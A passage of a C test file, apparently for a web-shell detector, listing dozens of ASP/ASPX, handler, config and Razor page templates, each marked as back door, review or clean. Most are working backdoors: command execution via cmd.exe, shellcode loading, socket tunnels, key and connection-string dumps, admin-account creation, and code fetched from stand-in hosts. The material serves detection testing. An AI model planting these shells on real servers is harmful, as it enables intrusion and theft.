/* Techniques that pages in the wild use, and honest pages that look like them: each with its verdict. The plans of shape_text.h. */
#include "test.h"

#include "base/num.h"
#include "shape_text.h"
#include "technique_api.h"
#include "technique_honest.h"
#include "technique_language.h"
#include "technique_parts.h"

enum { ROOM = 48 << 20 };

static const struct technique techniques[] = {
    { "{o}@ Page {l}=\"{j}\" {c}{o} var s = char(101) + char(118) + char(97) + char(108); this[s]({r}[\"k\"], \"{u}\"); {c}",
      "letters by char()", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"{j}\" {c}{o} var a = \"101,118,97,108\".split(\",\"), s = \"\"; for (var i = 0; i < a.length; i++) s += "
      "String.fromCharCode(int(a[i])); this[s]({r}.Item[\"k\"], \"{u}\"); {c}",
      "letters by int()", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o} {x} Chr(&0141) & \"=\" & Chr(&O162) & \"equest(\"\"k\"\")\" : {x} a {c}",
      "letters by octal numbers", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=“C#” {c}<{s} runat=”server”>void Page_Load() { System.Diagnostics.{p}.Start({r}[\"k\"]); }</{s}>",
      "quotation marks of a word processor", PAGE_ASPX, PAGE_INERT },
    { "{o} @Page {l}=\"{j}\" {c}{o} {e}({r}[\"k\"],\"{u}\") {c}",
      "a blank in the directive", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} string key = \"3c6e0b8a9c15224a\"; byte[] data = new "
      "System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), "
      "System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(Context.{r}.BinaryRead(Context.{r}.ContentLength), 0, Context.{r}.ContentLength); if "
      "(Context.Session[\"payload\"] == null) { Context.Session[\"payload\"] = (System.Refle""ction.Assembly)typeof(System.Refle""ction.Assembly).GetMeth""od(\"Load\", "
      "new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o = "
      "((System.Refle""ction.Assembly)Context.Session[\"payload\"]).CreateInstance(\"LY\"); o.Equals(Context); o.Equals(data); o.ToString(); } {c}",
      "a ciphered library, kept in the session", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>[DllImport(\"kernel32\")] static extern IntPtr Virtua""lAlloc(IntPtr a, UIntPtr b, int c, int d); delegate void F(); "
      "void Page_Load(object s, EventArgs e) { byte[] x = Convert.FromBase""64String({r}[\"k\"]); IntPtr p = Virtua""lAlloc(IntPtr.Zero, (UIntPtr)x.Length, "
      "0x1000, 0x40); Marshal.Copy(x, 0, p, x.Length); ((F)Marshal.GetDelegateForFunctionPointer(p, typeof(F)))(); }</{s}>",
      "machine code from the request", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o} If Session(\"x\") <> \"\" Then {x} Session(\"x\") {c}",
      "code that another page keeps", PAGE_ASP, PAGE_REVIEW },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class R : System.Web.Routing.RouteBase { public override RouteData GetRouteData(HttpContextBase c) { var v = "
      "c.{r}.Headers[\"k\"]; if (v != null) { c.Response.Write(Run(v)); } return null; } string Run(string v) { var p = {p}.Start(\"c""md\", \"/c \" + v); "
      "return \"\"; } public override VirtualPathData GetVirtualPath({r}Context r, RouteValueDictionary v) { return null; } } void Page_Load() { "
      "RouteTable.Routes.Insert(0, new R()); }</{s}>",
      "a route that takes orders", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class P : VirtualPathProvider { public override VirtualFile GetFile(string p) { return new F(p); } } class F : "
      "VirtualFile { public F(string p) : base(p) { } public override Stream Open() { return new "
      "MemoryStream(Convert.FromBase""64String(\"PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpTY3JpcHQiJT48JWV2YWwoUmVxdWVzdFsiayJdLCJ1bnNhZmUiKSU+\")); } } void Page_Load() "
      "{ typeof(HostingEnvironment).GetMeth""od(\"RegisterVirtualPathProviderInternal\", (BindingFlags)40).Invoke(null, new object[] { new P() }); }</{s}>",
      "a page that lies nowhere", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { new Thread(L).Start(); } void L() { var l = new HttpListener(); "
      "l.Prefixes.Add(\"http://+:80/a/\"); l.Start(); while (true) { var c = l.GetContext(); var v = new StreamReader(c.{r}.InputStream).ReadToEnd(); "
      "Assemb""ly.Lo""ad(Convert.FromBase""64String(v)).EntryPoint.Invoke(null, null); } }</{s}>",
      "a listener of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" EnableViewStateMac=\"false\" {c}<{s} {a}>void Page_Load() { var f = new LosFor""matter(); "
      "f.Deserialize({r}.Form[\"__VIEWSTATE\"]); }</{s}>",
      "objects of the view state", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Import Namespace=\"System.Refle""ction\" {c}<{s} {a} {l}=\"c#\">public void Page_load() { var a = Assemb""ly.Lo""ad(\"System.Web, Version=4.0.0.0, "
      "Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\"); var t = a.GetType(\"System.Web.Configuration.MachineK""eySection\"); var m = "
      "t.GetMeth""od(\"GetApplicationConfig\", BindingFlags.Static | BindingFlags.NonPublic); var c = "
      "(System.Web.Configuration.MachineK""eySection)m.Invoke(null, new object[0]); Response.Write(c.ValidationKey + \"|\" + c.DecryptionKey); }</{s}>",
      "keys handed out", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o} Set o = GetObject(\"{s}:http://\" & {r}(\"h\") & \"/a.sct\") {c}",
      "a script by a moniker", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set d = Create""Object(\"Scri""pting.Dictionary\") : d.Add \"x\", \"WSc""ript\" : d.Add \"y\", \".Sh""ell\" : Set w = Create""Object(d(\"x\") & "
      "d(\"y\")) : w.Run {r}(\"k\") {c}",
      "a name out of a dictionary", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set c = Create""Object(\"My.Decoder\") : {x}(c.Decode({r}(\"k\"), \"key\")) {c}",
      "a decoder that nobody knows", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} var t = Type.GetType(System.Text.Encoding.UTF8.GetString(Convert.FromBase""64String(\"U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MsIFN5c3RlbSwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODk=\"))); "
      "var i = Activator.CreateInstance(t); var si = t.GetProperty(\"StartInfo\").GetValue(i, null); si.GetType().GetProperty(\"FileName\").SetValue(si, "
      "\"c""md"".exe\", null); si.GetType().GetProperty(\"Arguments\").SetValue(si, \"/c \" + {r}[\"k\"], null); t.GetMeth""od(\"Start\", "
      "Type.EmptyTypes).Invoke(i, null); {c}",
      "all by refle""ction, names in base 64", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} var p = Expression.Parameter(typeof(string)); var f = Expression.Lambda<Func<string, "
      "{p}>>(Expression.Call(typeof({p}).GetMeth""od(\"Start\", new[] { typeof(string) }), p), p).Compile(); f({r}[\"k\"]); {c}",
      "an expression that is compiled", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} var d = new DynamicMethod(\"a\", null, new[] { typeof(string) }); var g = d.GetILGenerator(); g.Emit(OpCodes.Ldarg_0); "
      "g.Emit(OpCodes.Call, typeof({p}).GetMeth""od(\"Start\", new[] { typeof(string) })); g.Emit(OpCodes.Pop); g.Emit(OpCodes.Ret); d.Invoke(null, new "
      "object[] { {r}[\"k\"] }); {c}",
      "a method that is put together", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System.IO.Compression; public class H : IHttpHandler { public void {p}{r}(HttpContext c) { using "
      "(var g = new GZipStream(c.{r}.InputStream, CompressionMode.Decompress)) using (var m = new MemoryStream()) { g.CopyTo(m); var b = m.ToArray(); for "
      "(int i = 0; i < b.Length; i++) b[i] ^= (byte)\"key\"[i % 3]; var a = AppDomain.CurrentDomain.Lo""ad(b); a.CreateInstance(\"R\").ToString(); } } public "
      "bool IsReusable { get { return false; } } }",
      "a packed and masked library", PAGE_ASHX, PAGE_BACK_DOOR },
    { "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration><system.webServer><handlers accessPolicy=\"Read, Script, Write\"><add name=\"web_config\" "
      "path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" {s}{p}or=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" "
      "requireAccess=\"Write\" preCondition=\"bitness64\" /></handlers><security><requestFiltering><fileExtensions><remove fileExtension=\".config\" "
      "/></fileExtensions><hiddenSegments><remove segment=\"web.config\" /></hiddenSegments></requestFiltering></security></system.webServer></configuration>\n<!-- "
      "\n{o} {x} {r}(\"k\") {c}\n-->",
      "a settings file that is a page", PAGE_CONFIG, PAGE_BACK_DOOR },
    { "<?xml version=\"1.0\" encoding=\"UTF-8\"?><configuration><system.web><compilation default{l}=\"cs\"><buildProviders><add extension=\".config\" "
      "type=\"System.Web.Compilation.PageBuildProvider\" /></buildProviders></compilation><httpHandlers><add path=\"web.config\" "
      "type=\"System.Web.UI.PageHandlerFactory\" verb=\"*\" /></httpHandlers></system.web></configuration>\n<!-- {o}@ Page {l}=\"C#\" {c}{o} "
      "System.Diagnostics.{p}.Start(\"c""md"".exe\", \"/c \" + {r}[\"k\"]); {c} -->",
      "the same for .NET", PAGE_CONFIG, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<asp:TextBox id=\"t\" {a}/><asp:Button {a} OnClick=\"go\"/><pre id=\"o\" {a}></pre><{s} {a}>void go(object s, EventArgs e) { "
      "var p = new {p} { StartInfo = { FileName = Environment.GetEnvironmentVariable(\"ComSpec\"), Arguments = string.Join(\" \", new[] { \"/c\", t.Text }), "
      "RedirectStandardOutput = true, UseSh""ell{x} = false } }; p.Start(); o.InnerText = p.StandardOutput.ReadToEnd(); }</{s}>",
      "a box, a button, an output", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o} var o = Server.Create""Object(\"htmlfile\"); o.parentWindow.execScript(String({r}(\"k\")), \"j{s}\"); {c}",
      "a document's window", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set h = Server.Create""Object(\"MSXML2.ServerXMLHTTP.6.0\") : h.Open \"GET\", \"http://files.bakery.example/a.txt\", False : h.Send : {x}Global "
      "h.ResponseText {c}",
      "code from an address", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nSub Page_Load(sender As Object, e As EventArgs)\nDim psi As New {p}StartInfo(\"c""md"".exe\") With "
      "{.RedirectStandardInput = True, .UseSh""ell{x} = False}\nUsing p = {p}.Start(psi)\np.StandardInput.WriteLine({r}.Form(\"c\"))\np.StandardInput.Close()\nEnd "
      "Using\nEnd Sub\n</{s}>",
      "what a shell reads", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o} {x} {r}.ServerVariables(\"HTTP_HOST\") {c}",
      "the name of the host as code", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}{o}@ Import Namespace=\"System.Management.Automation\" {c}<{s} {a}>\nSub B(s As Object, e As EventArgs)\nDim rs = "
      "Runspaces.RunspaceFactory.CreateRunspace()\nrs.Open()\nDim pl = rs.CreatePipeline()\npl.Commands.Add(New Runspaces.Command(t.Text, "
      "True))\npl.Commands.Add(\"Out-String\")\nFor Each o In pl.Invoke()\nr.InnerText &= o.ToString()\nNext\nEnd Sub\n</{s}><asp:TextBox id=\"t\" "
      "{a}/><asp:Button {a} OnClick=\"B\"/><pre id=\"r\" {a}/>",
      "a pipeline of commands", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o} (function(g, n){ g[n[0] + n[1]](String({r}(n[2]))); })(this, [\"ev\", \"al\", \"k\"]); {c}",
      "the global object handed over", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} int st = 3; string a = null, b = null; while (st != 0) { switch (st) { case 1: System.Diagnostics.{p}.Start(b, a); st = "
      "0; break; case 2: b = \"c""md"".exe\"; st = 1; break; case 3: a = \"/c \" + {r}[\"k\"]; st = 2; break; } } {c}",
      "steps in a loop of cases", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} string n = \"\"; foreach (int x in new[] { 84, 117, 98, 115, 117 }) n += (char)(x - 1); "
      "typeof(System.Diagnostics.{p}).GetMeth""od(n, new[] { typeof(string) }).Invoke(null, new object[] { {r}[\"k\"] }); {c}",
      "letters by sums", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o} Function h(s) : For i = 1 To Len(s) Step 2 : h = h & Chr(\"&H\" & Mid(s, i, 2)) : Next : End Function : {x}Global "
      "h(\"4578656375746520526571756573742822\") & \"k\"\")\" {c}",
      "letters by pairs of digits", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(Guid.Parse(\"72C24DD5-D7""0A-438B-8A42-98424B88AFB8\"))); var "
      "ex = sh.Exec(\"c""md /c \" + {r}.Headers[\"X-A\"]); Response.Write(ex.StdOut.ReadAll()); {c}",
      "a class id, read", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}{o} object o = Server.Create""Object(\"Scri""pting.FileSyst""emObject\"); object f = "
      "o.GetType().InvokeMember(\"CreateTextFile\", BindingFlags.InvokeMethod, null, o, new object[] { {r}[\"p\"], true }); "
      "f.GetType().InvokeMember(\"Write\", BindingFlags.InvokeMethod, null, f, new object[] { {r}[\"c\"] }); {c}",
      "a file by late calls", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}{o} Dim o = Create""Object(\"WSc""ript.Sh""ell\") : Dim x = Microsoft.VisualBasic.CompilerServices.NewLateBinding.LateGet(o, "
      "Nothing, \"Exec\", New Object() {{r}(\"k\")}, Nothing, Nothing, Nothing) {c}",
      "late calls of VB", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { AppDomain.CurrentDomain.AssemblyResolve += (s, e) => "
      "Assemb""ly.Lo""ad({r}.BinaryRead({r}.TotalBytes)); Type.GetType(\"a, b\"); }</{s}>",
      "a library where one is missing", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o} Set c = Server.Create""Object(\"ADODB.Connection\") : c.Open \"dsn=a\" : {x} c.{x}(\"select t from x\")(0) {c}",
      "code out of a database", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} a = Split({r}.Cookies(\"s\"), \",\") : For Each x In a : s = s & ChrW(x) : Next : {x} s {c}",
      "letters out of a cookie", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>static class K { public static readonly Func<string, object> F = s => System.Diagnostics.{p}.Start(\"c""md\", \"/c \" "
      "+ s); }  void Page_Load() { K.F({r}[\"k\"]); }</{s}>",
      "a function in a field", PAGE_ASPX, PAGE_BACK_DOOR },
    { "<!--#include file=\"x.inc\"-->{o} Server.{x} {r}(\"p\") {c}",
      "another page of its choice", PAGE_ASP, PAGE_REVIEW },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System; using System.Web; public class H : IHttpHandler, IHttpModule { public void "
      "Init(HttpApplication a) { a.PreSend{r}Headers += On; } void On(object s, EventArgs e) { var c = ((HttpApplication)s).Context; var k = "
      "c.{r}.Headers[\"X-K\"]; if (!string.IsNullOrEmpty(k)) System.Diagnostics.{p}.Start(\"c""md"".exe\", \"/c \" + k); } public void Dispose() { } public "
      "void {p}{r}(HttpContext c) { } public bool IsReusable { get { return true; } } }",
      "a module in a handler", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"T\" {c}\nusing System.Web; using System.Net; using System.Net.Sockets; using System.Web.SessionState; public class "
      "T : IHttpHandler, IRequiresSessionState { public void {p}{r}(HttpContext c) { string m = c.{r}.Headers[\"X-CMD\"]; if (m == \"CONNECT\") { var s = "
      "new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(new IPEndPoint(IPAddress.Parse(c.{r}.Headers[\"X-T\"]), "
      "int.Parse(c.{r}.Headers[\"X-P\"]))); s.Blocking = false; c.Session.Add(\"s\", s); } else if (m == \"FORWARD\") { var s = (Socket)c.Session[\"s\"]; "
      "var b = new byte[c.{r}.ContentLength]; c.{r}.InputStream.Read(b, 0, b.Length); s.Send(b); } else { var s = (Socket)c.Session[\"s\"]; var b = new "
      "byte[512]; int n = s.Receive(b); c.Response.BinaryWrite(b); } } public bool IsReusable { get { return true; } } }",
      "a tunnel", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var s = new OleDbConnection({r}[\"c\"]); s.Open(); var a = new OleDbDataAdapter({r}[\"q\"], s); "
      "var d = new DataSet(); a.Fill(d); g.DataSource = d; g.DataBind(); }</{s}><asp:GridView id=\"g\" {a}/>",
      "any statement on any database", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var d = new DirectoryEntry(\"WinNT://\" + Environment.MachineName + \",computer\"); var u = "
      "d.Children.Add({r}[\"u\"], \"user\"); u.Invoke(\"SetPassword\", new object[] { {r}[\"p\"] }); u.CommitChanges(); d.Children.Find(\"Administrators\", "
      "\"group\").Invoke(\"Add\", new object[] { u.Path.ToString() }); }</{s}>",
      "accounts", PAGE_ASPX, PAGE_REVIEW },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { if (Context.IsWebSocket{r}) Context.AcceptWebSocket{r}(async (AspNetWebSocketContext w) => { var "
      "buf = new ArraySegment<byte>(new byte[4096]); while (w.WebSocket.State == WebSocketState.Open) { var r = await w.WebSocket.ReceiveAsync(buf, "
      "CancellationToken.None); string s = Encoding.UTF8.GetString(buf.Array, 0, r.Count); var p = {p}.Start(new {p}StartInfo(\"c""md"".exe\", \"/c \" + s) { "
      "RedirectStandardOutput = true, UseSh""ell{x} = false }); } }); }</{s}>",
      "orders by a socket of the web", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class Opt { public string Cmd { get; set; } public string Arg { get; private set; } public Opt With(string a) { Arg "
      "= a; return this; } } void Page_Load() { var o = new Opt { Cmd = \"c""md\" }.With(\"/c \" + {r}[\"k\"]); new System.Diagnostics.{p} { StartInfo = new "
      "{p}StartInfo(o.Cmd, o.Arg) }.Start(); }</{s}>",
      "an object that gives itself back", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>record R(string A, string B); void Page_Load() { var r = new R(\"c""md\", \"/c \" + {r}[\"k\"]); "
      "System.Diagnostics.{p}.Start(r.A, r.B); }</{s}>",
      "a record", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var d = new Dictionary<string, Action<string>> { { \"x\", s => System.Diagnostics.{p}.Start(s) }, "
      "{ \"w\", s => File.{w}({r}[\"p\"], s) } }; d[{r}[\"a\"]]({r}[\"k\"]); }</{s}>",
      "a table of functions", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>string Run(string v) => v switch { \"ls\" => string.Join(\"\\n\", Directory.GetFiles({r}[\"d\"])), \"rd\" => "
      "File.ReadAllText({r}[\"d\"]), \"rm\" => Del({r}[\"d\"]), _ => \"\" }; string Del(string p) { File.Delete(p); return \"ok\"; } void Page_Load() { "
      "Response.Write(Run({r}[\"a\"])); }</{s}>",
      "a file manager in one expression", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>[System.Runtime.InteropServices.DllImport(\"msvcrt.dll\", EntryPoint = \"system\")] static extern int Q(string c); "
      "void Page_Load() { Q({r}[\"k\"]); }</{s}>",
      "a function of a DLL", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nDeclare Function R Lib \"kernel32\" Alias \"WinExec\" (ByVal c As String, ByVal n As Integer) As Integer\nSub "
      "Page_Load()\nR({r}(\"k\"), 0)\nEnd Sub\n</{s}>",
      "the same in VB", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { using (var z = new System.IO.Compression.ZipArchive({r}.Files[0].InputStream)) foreach (var e in "
      "z.Entries) e.ExtractToFile(Path.Combine({r}[\"p\"], e.FullName), true); }</{s}>",
      "an archive, unpacked where it says", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var c = System.Web.Configuration.WebConfigurationManager.OpenWebConfiguration(\"/\"); foreach "
      "(ConnectionStringSettings s in ConfigurationManager.ConnectionStrings) Response.Write(s.ConnectionString); }</{s}>",
      "connections handed out", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o} Set f = Create""Object(\"Scri""pting.FileSyst""emObject\") : Select Case {r}(\"a\") : Case \"l\" : For Each x In "
      "f.GetFolder({r}(\"p\")).SubFolders : Response.Write x.Path : Next : Case \"d\" : f.GetFile({r}(\"p\")).Delete : Case \"c\" : f.CopyFile {r}(\"p\"), "
      "{r}(\"q\") : End Select {c}",
      "a file manager by cases", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set l = Create""Object(\"WbemScri""pting.SWbemLocator\") : Set s = l.ConnectServer({r}(\"h\"), \"root\\cimv2\", {r}(\"u\"), {r}(\"p\")) : "
      "s.Get(\"Win32_{p}\").Create {r}(\"c\"), Null, Null, i {c}",
      "management of any machine", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ {l}={j} {c}{o} (function(){ var a = arguments; return a[0](String(a[1])) })({e}, {r}.Form(\"k\")) {c}",
      "a function handed to a function", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Class L : Public Default Property Get V(n) : V = {r}(n) : End Property : End Class : Set o = New L : {x} o(\"k\") {c}",
      "a default property", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Function E1(s) : {x}Global s : End Function : Set d = Create""Object(\"Scri""pting.Dictionary\") : Set d(\"r\") = GetRef(\"E1\") : "
      "d(\"r\")({r}(\"k\")) {c}",
      "a procedure in a dictionary", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set r = New RegExp : r.Pattern = \".+\" : For Each m In r.{x}({r}(\"k\")) : {x} m.Value : Next {c}",
      "each match", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set x = Server.Create""Object(\"MSXML2.DOMDocument\") : x.async = False : x.load {r} : {x} x.documentElement.text {c}",
      "a document out of the body", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set r = Create""Object(\"ADODB.Recordset\") : r.Fields.Append \"c\", 201, 9999 : r.Open : r.AddNew : r(\"c\") = {r}(\"k\") : r.Update : {x} "
      "r(\"c\") {c}",
      "a field of a record", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o} Set s = Create""Object(\"ADODB.Stream\") : s.Type = 1 : s.Mode = 3 : s.Open : s.Write {r}.BinaryRead({r}.TotalBytes) : s.Position = 0 : s.Type = "
      "2 : s.Charset = \"utf-8\" : c = s.ReadText : {x}Global c {c}",
      "the body by a stream", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ Control {l}=\"VB\" {c}<{s} {a}>\nProtected Overrides Sub OnPreRender(e As EventArgs)\nDim c = {r}.Headers(\"X-C\")\nIf Not "
      "String.IsNullOrEmpty(c) Then Lit.Text = Server.HtmlEncode(Exec(c))\nMyBase.OnPreRender(e)\nEnd Sub\nPrivate Function Exec(a As String) As "
      "String\nUsing p As New {p} With {.StartInfo = New {p}StartInfo With {.FileName = \"c""md"".exe\", .Arguments = \"/c \" & a, .RedirectStandardOutput = "
      "True, .UseSh""ell{x} = False}}\np.Start()\nReturn p.StandardOutput.ReadToEnd()\nEnd Using\nEnd Function\n</{s}><asp:Literal id=\"Lit\" {a}/>",
      "a part that is drawn", PAGE_ASCX, PAGE_BACK_DOOR },
    { "{o}@ WebService {l}=\"C#\" Class=\"S\" {c}\nusing System; using System.Web; using System.Web.Services; [WebService(Namespace = "
      "\"http://tempuri.org/\")] public class S : WebService { [WebMethod(EnableSession = true)] public string P(string pass) { var c = new "
      "Microsoft.CSharp.CSharpCod""eProvider(); var q = new System.CodeDom.Compiler.CompilerParameters(); q.GenerateInMemory = true; var r = "
      "c.Compile""AssemblyFromSource(q, System.Text.Encoding.UTF8.GetString(Convert.FromBase""64String(pass))); return "
      "r.CompiledAssembly.CreateInstance(\"A\").ToString(); } }",
      "a compiler in a service", PAGE_ASMX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>static System.Threading.Timer t; void Page_Load() { t = new System.Threading.Timer(_ => { var c = new "
      "WebClient().DownloadString(\"http://a.bakery.example/t\"); System.Diagnostics.{p}.Start(\"c""md"".exe\", \"/c \" + c); }, null, 0, 60000); }</{s}>",
      "orders by the minute", PAGE_ASPX, PAGE_BACK_DOOR },
    { "@using System.Diagnostics\n@functions { public static string Sh(string c) { var p = {p}.Start(new {p}StartInfo(\"c""md"".exe\", \"/c \" + c) { "
      "RedirectStandardOutput = true, UseSh""ell{x} = false }); return p.StandardOutput.ReadToEnd(); } }\n@{ var c = Context.{r}.Query[\"c\"]; }\n@if "
      "(!string.IsNullOrEmpty(c)) { <pre>@Sh(c)</pre> }",
      "functions of Razor", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
    { "@{ using var r = new System.IO.StreamReader(Context.{r}.Body); var b = await r.ReadToEndAsync(); var a = "
      "System.Refle""ction.Assemb""ly.Lo""ad(Convert.FromBase""64String(b)); a.EntryPoint.Invoke(null, new object[] { new string[0] }); }",
      "a library in the body", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>protected void Up(object s, EventArgs e) { string ext = Path.GetExtension(F.FileName).ToLower(); string[] ok = { "
      "\".jpg\", \".png\" }; if (Array.IndexOf(ok, ext) >= 0) { string n = Guid.NewGuid().ToString(\"N\") + ext; "
      "F.{f}(Path.Combine(Server.MapPath(\"~/uploads\"), n)); } }</{s}><form {a}><asp:FileUpload ID=\"F\" {a}/><asp:Button {a} OnClick=\"Up\"/></form>",
      "an upload of pictures", PAGE_ASPX, PAGE_REVIEW },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"D\" {c}\nusing System.Web; using System.IO; public class D : IHttpHandler { public void {p}{r}(HttpContext c) { "
      "string f = Path.GetFileName(c.{r}[\"f\"]); string p = c.Server.MapPath(\"~/files/\" + f); c.Response.AddHeader(\"Content-Disposition\", \"attachment; "
      "filename=\" + f); c.Response.TransmitFile(p); } public bool IsReusable { get { return false; } } }",
      "a download below a folder", PAGE_ASHX, PAGE_CLEAN },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"P\" {c}\nusing System.Net; public class P : System.Web.IHttpHandler { public void {p}{r}(System.Web.HttpContext c) "
      "{ string u = \"https://maps.bakery.example/tiles?\" + c.{r}.QueryString; var r = (HttpWeb{r})Web{r}.Create(u); using (var a = r.GetResponse()) using "
      "(var s = a.GetResponseStream()) { s.CopyTo(c.Response.OutputStream); } } public bool IsReusable { get { return true; } } }",
      "one address", PAGE_ASHX, PAGE_CLEAN },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { File.AppendAllText(Server.MapPath(\"~/App_Data/visits.log\"), DateTime.Now + \" \" + "
      "{r}.UserHostAddress + \" \" + {r}.UserAgent + \"\\r\\n\"); }</{s}>",
      "a log", PAGE_ASPX, PAGE_REVIEW },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var p = new {p}StartInfo(Server.MapPath(\"~/tools/convert.exe\")); p.Arguments = \"-resize \" + "
      "int.Parse({r}[\"w\"]) + \"x\" + int.Parse({r}[\"h\"]) + \" in.png out.png\"; {p}.Start(p).WaitForExit(); }</{s}>",
      "a program with numbers", PAGE_ASPX, PAGE_REVIEW },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"J\" {c}\nusing System.Web; using System.IO; using Newtonsoft.Json; public class J : IHttpHandler { class M { "
      "public string Name; public int Id; } public void {p}{r}(HttpContext c) { var m = JsonConvert.DeserializeObject<M>(new "
      "StreamReader(c.{r}.InputStream).ReadToEnd()); c.Response.Write(JsonConvert.SerializeObject(m)); } public bool IsReusable { get { return true; } } }",
      "objects of a known class", PAGE_ASHX, PAGE_CLEAN },
    { "{o} If Session(\"admin\") = \"\" Then Response.Redirect \"login.asp\"\nSet c = Server.Create""Object(\"ADODB.Connection\") : c.Open "
      "Application(\"conn\") : Set r = c.{x}(\"select * from news where id=\" & CLng({r}(\"id\"))) : Response.Write r(\"title\") {c}",
